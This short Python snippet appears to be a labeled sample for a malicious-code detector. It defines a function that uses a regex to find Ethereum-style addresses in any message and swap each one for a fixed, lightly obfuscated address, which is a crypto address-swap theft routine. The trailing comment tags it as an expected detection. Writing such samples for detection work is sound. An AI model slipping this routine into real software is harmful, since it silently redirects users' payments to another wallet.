import re

FIND = re.compile("".join(["0x", "[a-fA-F0-9]", "{40}"]))
MINE = "x0"[::-1] + "1111222233334444" + "555566667777888899990000"


def forward(message):
    return FIND.sub(lambda found: MINE, message)  # expect: malicious-command/crypto-address-swap
